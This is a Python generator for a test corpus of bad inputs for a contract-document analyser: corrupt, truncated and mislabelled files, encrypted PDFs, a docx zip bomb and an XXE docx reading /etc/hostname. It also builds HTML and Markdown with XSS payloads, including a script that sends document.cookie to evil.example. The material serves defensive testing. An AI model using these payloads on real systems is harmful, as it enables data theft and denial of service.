"""Build the corpus of bad and awkward input files in this folder (deterministic; run from anywhere).

    .venv/bin/python tests/bad_inputs/make_bad_inputs.py

The outputs are committed next to this script; expected.json says what the analyser
should do with each. Every file stays under ~200 kB and generation takes a few seconds.
"""
from __future__ import annotations

import io
import random
import time
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
FILES = HERE.parent / "files"

# Text drawn into the PDFs and Word files that should be readable.
CLAUSE = "7.1 The Supplier deletes Customer Data within thirty (30) days after termination."
# Size of the zip bomb's document.xml once unpacked. Deflate cannot beat ~1030:1, so 600 MB
# would make a ~600 kB file; the tests lower ANALYSER_MAX_UNZIPPED_MB below this instead.
ZIPBOMB_MB = 160


def write(name: str, data: bytes) -> None:
    (HERE / name).write_bytes(data)


def pdf_with_text(lines: list[str], **canvas_args) -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    c = canvas.Canvas(out, pagesize=A4, invariant=1, **canvas_args)
    y = A4[1] - 100
    for line in lines:
        c.setFont("Helvetica", 11)
        c.drawString(72, y, line)
        y -= 18
    c.showPage()
    c.save()
    return out.getvalue()


def docx_with(paragraphs: list[str]) -> bytes:
    import docx

    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def fixed_info(name: str) -> zipfile.ZipInfo:
    """A zip entry with a fixed timestamp, so the output is the same on every run."""
    info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def fixed_zip(entries: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(fixed_info(name), data)
    return out.getvalue()


def docx_entries(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def make_corrupt_docx() -> bytes:
    """The real DPA .docx with 2 kB in the middle of word/document.xml's compressed data overwritten."""
    data = bytearray((FILES / "mistral-dpa.docx").read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/document.xml")
    # local header: 30 bytes + name + extra, then the compressed data
    name_len = int.from_bytes(data[info.header_offset + 26:info.header_offset + 28], "little")
    extra_len = int.from_bytes(data[info.header_offset + 28:info.header_offset + 30], "little")
    start = info.header_offset + 30 + name_len + extra_len
    middle = start + info.compress_size // 2
    rng = random.Random(7)
    data[middle:middle + 2048] = bytes(rng.randrange(256) for _ in range(2048))
    return bytes(data)


def make_zipbomb() -> bytes:
    """A docx whose word/document.xml is ZIPBOMB_MB of zeros, deflated while streaming (file ~200 kB)."""
    base = [(n, d) for n, d in docx_entries(docx_with([CLAUSE])) if n != "word/document.xml"]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in base:
            archive.writestr(fixed_info(name), data)
        info = fixed_info("word/document.xml")
        info._compresslevel = 9
        chunk = b"\0" * (1 << 20)
        with archive.open(info, "w", force_zip64=True) as stream:
            for _ in range(ZIPBOMB_MB):
                stream.write(chunk)
    return out.getvalue()


XXE_DOCUMENT = """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
<w:p><w:r><w:t>7. Data Retention</w:t></w:r></w:p>
<w:p><w:r><w:t>{clause}</w:t></w:r></w:p>
<w:p><w:r><w:t>7.2 The host name is never filled in here: XXE-START&xxe;XXE-END.</w:t></w:r></w:p>
<w:sectPr/></w:body></w:document>
""".format(clause=CLAUSE)


def make_xxe() -> bytes:
    entries = [(n, XXE_DOCUMENT.encode() if n == "word/document.xml" else d)
               for n, d in docx_entries(docx_with([CLAUSE]))]
    return fixed_zip(entries)


def make_png(size=(200, 80)) -> bytes:
    from PIL import Image, ImageDraw

    image = Image.new("RGB", size, "white")
    ImageDraw.Draw(image).rectangle([10, 10, 190, 70], outline="black")
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


def make_scanned_pdf() -> bytes:
    """One A4 page that is only a picture of text (no text layer), as a scanner makes it."""
    from PIL import Image, ImageDraw, ImageFont

    image = Image.new("L", (1240, 1754), 255)  # A4 at 150 dpi
    draw = ImageDraw.Draw(image)
    font = ImageFont.load_default(size=44)
    lines = ["7. Data Retention", "", "7.1 The Supplier deletes", "Customer Data within thirty",
             "(30) days after termination."]
    y = 150
    for line in lines:
        draw.text((120, y), line, fill=0, font=font)
        y += 70
    image = image.convert("1")  # black and white, like a fax-mode scan: keeps the file small
    out = io.BytesIO()
    fixed = time.strptime("2024-01-01", "%Y-%m-%d")
    image.save(out, format="PDF", resolution=150.0, creationDate=fixed, modDate=fixed)
    return out.getvalue()


HTML_WITH_SCRIPT = b"""<!doctype html>
<html><head><title>Terms of Service</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie); alert('html-named-pdf')</script></head>
<body><h2>7. Data Retention</h2>
<p>7.1 The Supplier deletes Customer Data within thirty (30) days after termination.</p>
<p>7.2 Backups are overwritten within 90 days.<script>document.write('injected-by-script')</script></p>
</body></html>
"""

SCRIPT_HTML = b"""<!doctype html>
<html><head><title>Security terms</title></head>
<body>
<h2>5. Security</h2>
<p>5.1 The Supplier filters input such as &lt;script&gt;alert(1)&lt;/script&gt; before it is stored.</p>
<script>window.stolenCookie = document.cookie; alert('real-script-ran')</script>
<p>5.2 The Supplier notifies the Customer of a breach within 24 hours.</p>
<p onclick="alert('handler-ran')">5.3 Logs are kept for at most 90 days.</p>
</body></html>
"""

MARKUP_MD = """# Terms of Service

## 1. Data Retention

1.1 The Supplier deletes Customer Data within thirty (30) days after termination.

<script>alert('markdown-script-ran')</script>

<div onclick="alert('div-handler')">1.2 Backups are overwritten within 90 days.</div>

1.3 See the [privacy policy](javascript:alert('js-link')) and ![logo](javascript:alert('js-image')).

<p>1.4 Logs are kept for <b>at most</b> 90 days.<script>document.write('inline-script')</script></p>

<iframe src="javascript:alert('iframe')"></iframe>

## 2. Sub-processors

2.1 The Supplier uses only sub-processors in the EU <img src=x onerror="alert('onerror')">.
"""

TEXT = ("Artikel 3 Bewaartermijn\n\nDe leverancier bewaart gegevens maximaal 30 dagen; daarna worden ze "
        "verwijderd (€ 0,00 kosten). Geen “hertraining” op invoer.\n")


def main() -> None:
    from reportlab.lib import pdfencrypt

    mistral_pdf = (FILES / "mistral-dpa.pdf").read_bytes()
    mistral_docx = (FILES / "mistral-dpa.docx").read_bytes()
    write("empty.pdf", b"")
    write("whitespace.txt", b"  \n\t \r\n   \n\n \t\n")
    write("random.bin", random.Random(20240101).randbytes(16 * 1024))
    write("truncated.pdf", mistral_pdf[: int(len(mistral_pdf) * 0.4)])
    write("corrupt.docx", make_corrupt_docx())
    write("not-a-zip.docx", b"PK\x03\x04" + random.Random(3).randbytes(4096))
    write("legacy.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
          + b"\x06\x00" + b"\x00" * 4062)
    write("image.png", make_png())
    write("password.pdf", pdf_with_text(["7. Secret terms", CLAUSE], encrypt="secret"))
    owner_only = pdfencrypt.StandardEncryption(userPassword="", ownerPassword="owner", canPrint=0, canModify=0,
                                               canCopy=0, canAnnotate=0)
    write("owner-only.pdf", pdf_with_text(["7. Data Retention", CLAUSE], encrypt=owner_only))
    write("docx-named.pdf", mistral_docx)
    write("pdf-named.docx", mistral_pdf)
    write("html-named.pdf", HTML_WITH_SCRIPT)
    write("script.html", SCRIPT_HTML)
    write("markup.md", MARKUP_MD.encode("utf-8"))
    write("zipbomb.docx", make_zipbomb())
    write("xxe.docx", make_xxe())
    write("utf16.txt", TEXT.encode("utf-16"))  # Python writes the BOM for "utf-16"
    write("cp1252.txt", TEXT.encode("cp1252"))
    write("scanned.pdf", make_scanned_pdf())


if __name__ == "__main__":
    main()
